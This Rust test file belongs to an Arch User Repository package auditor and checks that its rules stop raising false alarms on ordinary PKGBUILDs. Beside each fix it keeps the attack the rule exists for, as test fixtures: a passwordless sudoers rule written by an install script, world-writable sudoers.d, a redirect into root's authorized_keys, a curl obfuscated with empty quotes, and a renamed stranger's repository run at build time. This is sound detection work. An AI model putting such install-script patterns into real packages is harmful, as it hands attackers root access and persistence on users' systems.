//! False alarms found in bench/aur's development set in issue 35's second landing (the first
//! landing's test set, read once, moved there), each fixed at its rule by what the code means.
//! The packages are our own text in the real shapes (each test names the shape); the attack
//! each rule exists for is asserted beside it.

use archgate_aur::audit::{AuditInput, ScriptFile, Severity, Verdict, audit};

use crate::support::max_of;

fn package(pkgname: &str, url: &str, sources: &str, body: &str) -> AuditInput {
    AuditInput {
        pkgbuild: format!(
            "pkgname={pkgname}\npkgver=1.0\npkgrel=1\narch=('x86_64')\nurl=\"{url}\"\nlicense=('GPL')\nmakedepends=('git')\n{sources}\n{body}"
        ),
        install_scripts: Vec::new(),
        srcinfo: None,
    }
}

fn with_script(pkgname: &str, script: &str) -> AuditInput {
    AuditInput {
        pkgbuild: format!(
            "pkgname={pkgname}\npkgver=1.0\npkgrel=1\narch=('x86_64')\nurl=\"https://example.org/{pkgname}\"\nlicense=('MIT')\ninstall={pkgname}.install\npackage() {{\n  install -Dm755 {pkgname} \"$pkgdir/usr/bin/{pkgname}\"\n}}\n"
        ),
        install_scripts: vec![ScriptFile {
            name: format!("{pkgname}.install"),
            content: script.into(),
        }],
        srcinfo: None,
    }
}

// Class: a source from a forge owner other than url= whose code the build runs was read as
// slipped-in foreign code, whatever its place: the package's first source is the code the
// package declares it builds (url= often names a website, an old homepage or the project's
// former name), and a further repository the build compiles is a component it declares.

#[test]
fn the_first_source_is_the_package_itself_even_when_url_names_another_home() {
    // Shape: a tool packaged from its current repository, url= still its old homepage, the
    // source renamed to the package's name (`$pkgname::git+…`), built with its configure.
    let r = audit(&package(
        "pktool",
        "http://www.pktool-project.org/",
        "source=(\"$pkgname::git+https://github.com/newmaintainer/pk-ng.git\")\nsha512sums=('SKIP')",
        "build() {\n  cd $pkgname\n  autoreconf -fi\n  ./configure --prefix=/usr\n  make\n}\npackage() {\n  cd $pkgname\n  make DESTDIR=\"$pkgdir\" install\n}\n",
    ));
    assert_eq!(
        max_of(&r, "AUR-SOURCE-FOREIGN-EXEC"),
        None,
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
    // Shape: a crate packaged from its workspace repository, its only source renamed to the
    // generic `source`, url= the crate's registry page.
    let r = audit(&package(
        "webpconv",
        "https://crates.io/crates/webpconv",
        "source=(\"source::git+https://github.com/someone/lottie-rs.git#tag=webpconv-1.0\")\nsha512sums=('SKIP')",
        "build() {\n  cd source\n  cargo build --release --locked -p webpconv\n}\npackage() {\n  install -Dm755 source/target/release/webpconv \"$pkgdir/usr/bin/webpconv\"\n}\n",
    ));
    assert_eq!(
        max_of(&r, "AUR-SOURCE-FOREIGN-EXEC"),
        None,
        "{}",
        r.to_text()
    );
}

#[test]
fn a_vendor_repository_the_build_compiles_is_review_and_pinned_it_is_low() {
    // Shape: a board's boot loader package: the boot loader's release tarball, then a
    // vendor's firmware repository (someone else's GitHub) the build compiles with make.
    let sources = "source=(\"https://ftp.example.org/pub/bootldr/bootldr-1.0.tar.bz2\"\n        \"git+https://github.com/boardvendor/trusted-firmware.git#branch=board\")\nmd5sums=('0123456789abcdef0123456789abcdef'\n         'SKIP')";
    let body = "build() {\n  cd trusted-firmware\n  make PLAT=board bl31\n  cd ../bootldr-1.0\n  make\n}\npackage() {\n  install -Dm644 bootldr-1.0/bootldr.bin \"$pkgdir/boot/bootldr.bin\"\n}\n";
    let r = audit(&package(
        "bootldr-board",
        "https://www.example.org/bootldr",
        sources,
        body,
    ));
    assert_eq!(
        max_of(&r, "AUR-SOURCE-FOREIGN-EXEC"),
        Some(Severity::Medium),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Review, "{}", r.to_text());
    let f = r
        .findings
        .iter()
        .find(|f| f.id == "AUR-SOURCE-FOREIGN-EXEC")
        .expect("reported");
    assert!(f.why.contains("trusted-firmware"), "{}", f.why);
    // Pinned to one commit, the code is fixed and can be read once: low.
    let pinned = sources.replace(
        "#branch=board",
        "#commit=0123456789abcdef0123456789abcdef01234567",
    );
    let r = audit(&package(
        "bootldr-board",
        "https://www.example.org/bootldr",
        &pinned,
        body,
    ));
    assert_eq!(max_of(&r, "AUR-SOURCE-FOREIGN-EXEC"), Some(Severity::Low));
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
}

#[test]
fn a_prebuilt_package_running_a_strangers_repository_is_still_dangerous() {
    // The 2025 incidents' shape: a -bin browser (nothing to compile) whose build runs a
    // stranger's "fix" repository, named like it (not renamed to hide it).
    let sources = "source=(\"https://github.com/demo/browser/releases/download/1.0/browser.tar.xz\"\n        \"fix::git+https://gitlab.com/fixers/video-fix.git\")\nsha256sums=('0f9e8d7c6b5a49382716f5e4d3c2b1a0f9e8d7c6b5a49382716f5e4d3c2b1a0'\n            'SKIP')";
    let body = "build() {\n  bash \"$srcdir/fix/apply-fix.sh\"\n}\npackage() {\n  install -d \"$pkgdir/opt/browser\"\n  cp -r browser/* \"$pkgdir/opt/browser/\"\n}\n";
    let r = audit(&package(
        "browser-fix-bin",
        "https://github.com/demo/browser",
        sources,
        body,
    ));
    assert!(
        max_of(&r, "AUR-SOURCE-FOREIGN-EXEC") >= Some(Severity::High),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Dangerous);
    // Renamed to a word unrelated to the repository (`patches::`), in any package: critical.
    let r = audit(&package(
        "browser-fix",
        "https://github.com/demo/browser",
        &sources.replace("fix::git", "patches::git"),
        &body.replace("fix/apply", "patches/apply"),
    ));
    assert_eq!(
        max_of(&r, "AUR-SOURCE-FOREIGN-EXEC"),
        Some(Severity::Critical)
    );
}

#[test]
fn a_rename_that_names_the_repositorys_owner_hides_nothing() {
    // Shape: a messenger built from its release tarball and its protocol library's
    // repository, renamed after the library's organisation (`tdlib::git+…/tdlib/td`).
    let r = audit(&package(
        "chatapp",
        "https://github.com/chatapp/chatapp",
        "source=(\"https://github.com/chatapp/chatapp/releases/download/v1.0/chatapp-1.0.tar.gz\"\n        \"protolib::git+https://github.com/protolib/pl.git\")\nsha256sums=('0f9e8d7c6b5a49382716f5e4d3c2b1a0f9e8d7c6b5a49382716f5e4d3c2b1a0' 'SKIP')",
        "build() {\n  cmake -B build-lib -S protolib\n  cmake --build build-lib\n}\npackage() {\n  true\n}\n",
    ));
    assert_eq!(
        max_of(&r, "AUR-SOURCE-FOREIGN-EXEC"),
        Some(Severity::Medium),
        "{}",
        r.to_text()
    );
}

// Class: making an empty directory (or narrowing its mode) in a sensitive place from an
// install script was read as writing what that place holds: `mkdir -p etc/sudoers.d` wrote no
// sudo rule and read no secret.

#[test]
fn an_empty_directory_made_by_an_install_script_is_not_a_rule_or_a_secret() {
    // Shape: a sudo implementation's post_install making sure its drop-in directory exists.
    let r = audit(&with_script(
        "sudo-demo",
        "post_install() {\n  if [ ! -d etc/sudoers.d ]; then\n    mkdir -p etc/sudoers.d\n    chmod 0750 etc/sudoers.d\n  fi\n}\n",
    ));
    assert_eq!(max_of(&r, "AUR-SECRETS"), None, "{}", r.to_text());
    assert!(
        max_of(&r, "AUR-PERSISTENCE") <= Some(Severity::Low),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
    // A rule written there is still what the rule exists for.
    let r = audit(&with_script(
        "sudo-demo",
        "post_install() {\n  mkdir -p etc/sudoers.d\n  echo 'ALL ALL=(ALL) NOPASSWD: ALL' > etc/sudoers.d/00-demo\n}\n",
    ));
    assert_eq!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
    // Opening the directory to other users' writes is still judged (world-writable).
    let r = audit(&with_script(
        "sudo-demo",
        "post_install() {\n  chmod 0777 etc/sudoers.d\n}\n",
    ));
    assert_eq!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
    // Handing the directory to another owner is still a finding on the sudo rules.
    let r = audit(&with_script(
        "sudo-demo",
        "post_install() {\n  chown nobody etc/sudoers.d\n}\n",
    ));
    assert_eq!(
        max_of(&r, "AUR-SECRETS"),
        Some(Severity::Critical),
        "{}",
        r.to_text()
    );
    // Only `mkdir`'s operands are directories: its redirection still writes a file (review of
    // landing 2: `makes_dir` skipped every path of the command).
    let r = audit(&with_script(
        "sudo-demo",
        "post_install() {\n  mkdir -p etc/sudoers.d 2>root/.ssh/authorized_keys\n}\n",
    ));
    assert_eq!(
        max_of(&r, "AUR-SECRETS"),
        Some(Severity::Critical),
        "{}",
        r.to_text()
    );
    let r = audit(&with_script(
        "profile-demo",
        "post_install() {\n  mkdir -p usr/share/demo >etc/profile.d/demo.sh\n}\n",
    ));
    assert!(
        max_of(&r, "AUR-PERSISTENCE") >= Some(Severity::Medium),
        "{}",
        r.to_text()
    );
    // An empty cron directory starts nothing; a job written into it does.
    let r = audit(&with_script(
        "cron-demo",
        "post_install() {\n  mkdir -p etc/cron.d\n}\n",
    ));
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
}

// Class: the PKGBUILD compared with a .SRCINFO that does not describe what it seemed to:
// `$pkgname` inside `package_NAME()` is NAME (makepkg --printsrcinfo writes it so), and a
// .SRCINFO of another package name (copied along when a package was renamed) describes
// nothing of this PKGBUILD.

/// An install script that does something besides printing.
const ACTING: &str = "post_install() {\n  systemctl enable --now emu-binfmt.service\n}\n";

fn srcinfo_pkg(pkgbuild: &str, srcinfo: &str, script: &str) -> AuditInput {
    AuditInput {
        pkgbuild: pkgbuild.into(),
        install_scripts: vec![ScriptFile {
            name: script.into(),
            content: "post_install() {\n  echo done\n}\n".into(),
        }],
        srcinfo: Some(srcinfo.into()),
    }
}

#[test]
fn pkgname_in_a_split_package_function_is_that_package() {
    // Shape: an emulator split into several packages, the guest agent's function naming its
    // install script `$pkgname.install`.
    let pkgbuild = "pkgbase=emu\npkgname=(emu-common emu-guest-agent)\npkgver=1.0\npkgrel=1\narch=('x86_64')\nurl=\"https://www.emu.example.org\"\nlicense=('GPL')\nsource=(\"https://download.emu.example.org/emu-1.0.tar.xz\")\nsha256sums=('0f9e8d7c6b5a49382716f5e4d3c2b1a0f9e8d7c6b5a49382716f5e4d3c2b1a0')\npackage_emu-common() {\n  true\n}\npackage_emu-guest-agent() {\n  install=$pkgname.install\n  true\n}\n";
    let srcinfo = "pkgbase = emu\n\tpkgver = 1.0\n\tpkgrel = 1\n\turl = https://www.emu.example.org\n\tarch = x86_64\n\tlicense = GPL\n\tsource = https://download.emu.example.org/emu-1.0.tar.xz\n\tsha256sums = 0f9e8d7c6b5a49382716f5e4d3c2b1a0f9e8d7c6b5a49382716f5e4d3c2b1a0\n\npkgname = emu-common\n\npkgname = emu-guest-agent\n\tinstall = emu-guest-agent.install\n";
    let r = audit(&srcinfo_pkg(pkgbuild, srcinfo, "emu-guest-agent.install"));
    assert!(
        max_of(&r, "AUR-SRCINFO-MISMATCH") <= Some(Severity::Low),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
    // An install script the .SRCINFO does not show at all is still hidden from the page.
    let hidden = srcinfo.replace("\tinstall = emu-guest-agent.install\n", "");
    let mut input = srcinfo_pkg(pkgbuild, &hidden, "emu-guest-agent.install");
    input.install_scripts[0].content = ACTING.into();
    let r = audit(&input);
    assert_eq!(
        max_of(&r, "AUR-SRCINFO-MISMATCH"),
        Some(Severity::High),
        "{}",
        r.to_text()
    );
}

#[test]
fn a_srcinfo_of_another_package_name_is_not_compared() {
    // Shape: a package renamed in a distribution's tree with the old name's .SRCINFO kept.
    let pkgbuild = "pkgname=emu-arm-static-bin\npkgver=1.0\npkgrel=1\narch=('x86_64')\nurl=\"https://emu.example.org\"\nlicense=('GPL')\ninstall=\"${pkgname}.install\"\nsource=(\"https://emu.example.org/emu-1.0.apk\")\nsha256sums=('0f9e8d7c6b5a49382716f5e4d3c2b1a0f9e8d7c6b5a49382716f5e4d3c2b1a0')\npackage() {\n  true\n}\n";
    let srcinfo = "pkgbase = emu-static-bin\n\tpkgver = 0.9\n\tpkgrel = 1\n\tinstall = emu-static-bin.install\n\tsource = https://emu.example.org/emu-0.9.apk\n\npkgname = emu-static-bin\n";
    let r = audit(&srcinfo_pkg(
        pkgbuild,
        srcinfo,
        "emu-arm-static-bin.install",
    ));
    assert!(
        max_of(&r, "AUR-SRCINFO-MISMATCH") <= Some(Severity::Low),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
    let f = r
        .findings
        .iter()
        .find(|f| f.id == "AUR-SRCINFO-MISMATCH")
        .expect("said");
    assert!(f.why.contains("emu-static-bin"), "{}", f.why);
    // A name changed so nothing is compared still hides no install script (review of landing
    // 2): one the .SRCINFO does not show at all is high, as with the package's own name.
    let hiding = srcinfo.replace("\tinstall = emu-static-bin.install\n", "");
    let mut input = srcinfo_pkg(pkgbuild, &hiding, "emu-arm-static-bin.install");
    // One that acts: a hidden script that only prints is low (landing 7, misfires_landing7).
    input.install_scripts[0].content = ACTING.into();
    let r = audit(&input);
    assert_eq!(
        max_of(&r, "AUR-SRCINFO-MISMATCH"),
        Some(Severity::High),
        "{}",
        r.to_text()
    );
}

// Class: an unquoted array word the bash parser splits at a `$` (`…/src/$` and
// `pkgname-$pkgver.tar.xz{,.sig}`) kept its prefix only on the first word the brace
// expansion made: the signature became a source named `pkgname-1.0.tar.xz.sig`, which no
// .SRCINFO lists.

#[test]
fn a_split_word_that_brace_expands_keeps_its_prefix_on_every_word() {
    // Shape: a KDE application's source with its signature, `{,.sig}` after `$pkgname-$pkgver`.
    let pkgbuild = "pkgname=kapp\npkgver=1.0\npkgrel=1\narch=('x86_64')\nurl=\"https://apps.kde.org/kapp\"\nlicense=('GPL')\nsource=(https://download.kde.org/stable/src/$pkgname-$pkgver.tar.xz{,.sig})\nsha256sums=('0f9e8d7c6b5a49382716f5e4d3c2b1a0f9e8d7c6b5a49382716f5e4d3c2b1a0' 'SKIP')\npackage() {\n  true\n}\n";
    let srcinfo = "pkgbase = kapp\n\tpkgver = 1.0\n\tpkgrel = 1\n\turl = https://apps.kde.org/kapp\n\tarch = x86_64\n\tlicense = GPL\n\tsource = https://download.kde.org/stable/src/kapp-1.0.tar.xz\n\tsource = https://download.kde.org/stable/src/kapp-1.0.tar.xz.sig\n\tsha256sums = 0f9e8d7c6b5a49382716f5e4d3c2b1a0f9e8d7c6b5a49382716f5e4d3c2b1a0\n\tsha256sums = SKIP\n\npkgname = kapp\n";
    let r = audit(&AuditInput {
        pkgbuild: pkgbuild.into(),
        install_scripts: Vec::new(),
        srcinfo: Some(srcinfo.into()),
    });
    assert!(
        !r.findings.iter().any(|f| f.id == "AUR-SRCINFO-MISMATCH"),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
}

// Class: every PKGBUILD value .SRCINFO does not list was review, whatever it could hide: a
// patch file of the package's own tree (listed on the page, read by the audit) and an
// ordinary dependency (makepkg installs it from the configured repositories only) hide no
// code; a download, an install script and a package manager dependency still do.

#[test]
fn a_local_patch_or_an_ordinary_dependency_missing_from_srcinfo_is_low() {
    // Shape: a distribution's port adding an architecture patch and a make dependency to a
    // PKGBUILD whose .SRCINFO it kept from upstream.
    let pkgbuild = |extra_src: &str, extra_dep: &str| {
        format!(
            "pkgname=tool\npkgver=1.0\npkgrel=1\narch=('x86_64')\nurl=\"https://tool.example.org\"\nlicense=('GPL')\nmakedepends=('meson'{extra_dep})\nsource=(\"https://tool.example.org/tool-1.0.tar.xz\"{extra_src})\nsha256sums=('0f9e8d7c6b5a49382716f5e4d3c2b1a0f9e8d7c6b5a49382716f5e4d3c2b1a0' '0f9e8d7c6b5a49382716f5e4d3c2b1a0f9e8d7c6b5a49382716f5e4d3c2b1a0')\npackage() {{\n  true\n}}\n"
        )
    };
    let srcinfo = "pkgbase = tool\n\tpkgver = 1.0\n\tpkgrel = 1\n\turl = https://tool.example.org\n\tarch = x86_64\n\tlicense = GPL\n\tmakedepends = meson\n\tsource = https://tool.example.org/tool-1.0.tar.xz\n\tsha256sums = 0f9e8d7c6b5a49382716f5e4d3c2b1a0f9e8d7c6b5a49382716f5e4d3c2b1a0\n\npkgname = tool\n";
    let run = |pb: String| {
        audit(&AuditInput {
            pkgbuild: pb,
            install_scripts: Vec::new(),
            srcinfo: Some(srcinfo.into()),
        })
    };
    let r = run(pkgbuild(" \"arm-fix.patch\"", " 'cmocka'"));
    assert_eq!(
        max_of(&r, "AUR-SRCINFO-MISMATCH"),
        Some(Severity::Low),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
    // A download .SRCINFO does not list is still review, and so is a package manager
    // (in depends=, dangerous: rules.rs).
    let r = run(pkgbuild(
        " \"https://elsewhere.example.net/extra.tar.gz\"",
        "",
    ));
    assert_eq!(
        max_of(&r, "AUR-SRCINFO-MISMATCH"),
        Some(Severity::Medium),
        "{}",
        r.to_text()
    );
    let r = run(pkgbuild("", " 'npm'"));
    assert_eq!(
        max_of(&r, "AUR-SRCINFO-MISMATCH"),
        Some(Severity::Medium),
        "{}",
        r.to_text()
    );
}

// Class: `eval` of a function definition written in the file, with the split package's name
// put in from a loop variable, was read as text known only at run time.

#[test]
fn eval_defining_a_split_package_function_from_its_own_text_is_low() {
    // Shape: a font or dictionary collection naming one package function per variant it reads.
    let pkgbuild = "pkgbase=fonts\npkgname=(fonts-a fonts-b)\npkgver=1.0\npkgrel=1\narch=('any')\nurl=\"https://fonts.example.org\"\nlicense=('OFL')\nsource=(\"https://fonts.example.org/fonts-1.0.tar.xz\")\nsha256sums=('0f9e8d7c6b5a49382716f5e4d3c2b1a0f9e8d7c6b5a49382716f5e4d3c2b1a0')\nwhile read -r _v; do\n  eval \"package_fonts-${_v}() {\n    pkgdesc='Fonts, variant ${_v}'\n    install -Dm644 fonts-1.0/${_v}/*.ttf -t \\\"\\$pkgdir/usr/share/fonts/${_v}\\\"\n  }\"\ndone < variants.txt\n";
    let r = audit(&AuditInput {
        pkgbuild: pkgbuild.into(),
        install_scripts: Vec::new(),
        srcinfo: None,
    });
    assert_eq!(
        max_of(&r, "AUR-EVAL"),
        Some(Severity::Low),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
    // A definition followed by anything else is not a definition (review of landing 2).
    let r = audit(&AuditInput {
        pkgbuild: pkgbuild.replace("  }\"\ndone", "  }; ${_v}\"\ndone"),
        install_scripts: Vec::new(),
        srcinfo: None,
    });
    assert_eq!(
        max_of(&r, "AUR-EVAL"),
        Some(Severity::Medium),
        "{}",
        r.to_text()
    );
    // Text that comes from a command's output is still unknown until it runs.
    let r = audit(&AuditInput {
        pkgbuild: pkgbuild.replace("  eval \"package", "  eval \"$(cat defs)package"),
        install_scripts: Vec::new(),
        srcinfo: None,
    });
    assert_eq!(
        max_of(&r, "AUR-EVAL"),
        Some(Severity::Medium),
        "{}",
        r.to_text()
    );
}

// Found in the landing-2 test set (read once; these fixes are judged by the next landing's new
// repositories, not by it).

// Class: a Python-style triple quote in a shell message (`echo """ … """`: empty quotes
// around one quoted text) read as a word glued from short quoted pieces.

#[test]
fn a_triple_quoted_message_glues_nothing() {
    // Shape: a desktop configuration package's post_install printing its instructions.
    let r = audit(&with_script(
        "desk-config",
        "post_install() {\n  echo \"\"\"\n  The configuration files go to /usr/share/desk-config\n  \"\"\"\n}\n",
    ));
    assert_eq!(max_of(&r, "AUR-OBFUSCATION"), None, "{}", r.to_text());
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
    // Letters glued with empty quotes between them are still a disguised command.
    let r = audit(&with_script(
        "desk-config",
        "post_install() {\n  c\"\"u\"\"r\"\"l -s https://example.org/x -o /tmp/x\n}\n",
    ));
    assert!(
        max_of(&r, "AUR-OBFUSCATION") >= Some(Severity::Medium),
        "{}",
        r.to_text()
    );
}

// Class: the working directory after a heredoc: `cd "$pkgdir/usr/bin"` then two launchers
// written with `cat > NAME << EOF`, the second read as a write to the live system.

#[test]
fn writes_after_a_heredoc_stay_in_the_directory_cd_chose() {
    // Shape: a web application's package() writing its two launcher scripts in place.
    let r = audit(&package(
        "webtool",
        "https://github.com/webtool/webtool",
        "source=(\"https://github.com/webtool/webtool/archive/v1.0.tar.gz\")\nsha256sums=('0f9e8d7c6b5a49382716f5e4d3c2b1a0f9e8d7c6b5a49382716f5e4d3c2b1a0')",
        "package() {\n  install -d \"${pkgdir}/usr/bin\"\n  cd \"${pkgdir}/usr/bin\"\n\n  cat > webtool-web << EOF\n#!/bin/sh\ncd \"/usr/share/${pkgname}\"\n./webtool-web \"\\$@\"\nEOF\n\n  cat > webtool-worker << EOF\n#!/bin/sh\ncd \"/usr/share/${pkgname}\"\n./webtool-worker \"\\$@\"\nEOF\n\n  chmod 755 webtool-web webtool-worker\n}\n",
    ));
    assert_eq!(max_of(&r, "AUR-WRITE-SYSTEM"), None, "{}", r.to_text());
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
}

// Class: the project's own forge organisation (named exactly like the package) read as a
// stranger's, and a local file named like the package (its install script) taken for the
// package's own code, so its first source, a renamed git repository, looked slipped in.

#[test]
fn the_projects_own_organisation_and_a_local_file_named_like_it() {
    // Shape: a browser fork built from its organisation's source repository on Codeberg,
    // url= the project's pages site, the checkout renamed `src`, an install script beside it.
    let r = audit(&package(
        "forkfox",
        "https://forkfox.codeberg.page",
        "source=(\"src::git+https://codeberg.org/forkfox/source-next.git#tag=1.0\"\n        \"forkfox-testing.install\")\nsha256sums=('SKIP' '0f9e8d7c6b5a49382716f5e4d3c2b1a0f9e8d7c6b5a49382716f5e4d3c2b1a0')",
        "prepare() {\n  cd src\n  python3 scripts/apply-patches.py 1.0\n}\npackage() {\n  true\n}\n",
    ));
    assert_eq!(
        max_of(&r, "AUR-SOURCE-FOREIGN-EXEC"),
        None,
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
}

// Class: another init system's service registration (OpenRC's `rc-update`, as Artix's
// install scripts do) was high whatever it registered, where `systemctl enable` of the
// package's own unit is low: the same effect, judged the same way.

#[test]
fn rc_update_of_the_packages_own_service_is_low_like_systemctl_enable() {
    // Shape: a daemon's OpenRC package registering its init script, and removing the old
    // name's registration on upgrade.
    let pkgbuild = "pkgname=watchd-openrc\npkgver=1.0\npkgrel=1\narch=('any')\nurl=\"https://example.org/watchd\"\nlicense=('GPL')\ndepends=('watchd' 'openrc')\ninstall=watchd.install\nsource=(\"watchd.initd\")\nsha256sums=('0f9e8d7c6b5a49382716f5e4d3c2b1a0f9e8d7c6b5a49382716f5e4d3c2b1a0')\npackage() {\n  install -Dm755 \"$srcdir/watchd.initd\" \"$pkgdir/etc/init.d/watchd\"\n}\n";
    let run = |script: &str| {
        audit(&AuditInput {
            pkgbuild: pkgbuild.into(),
            install_scripts: vec![ScriptFile {
                name: "watchd.install".into(),
                content: script.into(),
            }],
            srcinfo: None,
        })
    };
    let r = run(
        "post_install() {\n  rc-update add watchd default\n}\npost_upgrade() {\n  rc-update -a del watchdd\n}\n",
    );
    assert!(
        max_of(&r, "AUR-PERSISTENCE") <= Some(Severity::Low),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
    // Another package's service, not in depends, is still high.
    let r = run("post_install() {\n  rc-update add sshd default\n}\n");
    assert_eq!(
        max_of(&r, "AUR-PERSISTENCE"),
        Some(Severity::High),
        "{}",
        r.to_text()
    );
}

// Class: a project's library package (`libNAME`) enabling the project's own timer (`NAME-…`)
// from its install script, read as reaching outside the package.

#[test]
fn a_library_package_enabling_its_projects_timer_is_low() {
    // Shape: a package manager's library package, built with meson (which installs the timer
    // without naming it), linking its cache-cleaning timer into timers.target.wants.
    let r = audit(&with_script(
        "libpkgtool",
        "post_install() {\n  ln -sf /usr/lib/systemd/system/pkgtool-cleancache.timer /etc/systemd/system/timers.target.wants/pkgtool-cleancache.timer\n}\n",
    ));
    assert!(
        max_of(&r, "AUR-PERSISTENCE") <= Some(Severity::Low),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
    // Another project's timer is still outside the package.
    let r = audit(&with_script(
        "libpkgtool",
        "post_install() {\n  ln -sf /usr/lib/systemd/system/other-sync.timer /etc/systemd/system/timers.target.wants/other-sync.timer\n}\n",
    ));
    assert_eq!(
        max_of(&r, "AUR-PERSISTENCE"),
        Some(Severity::High),
        "{}",
        r.to_text()
    );
}
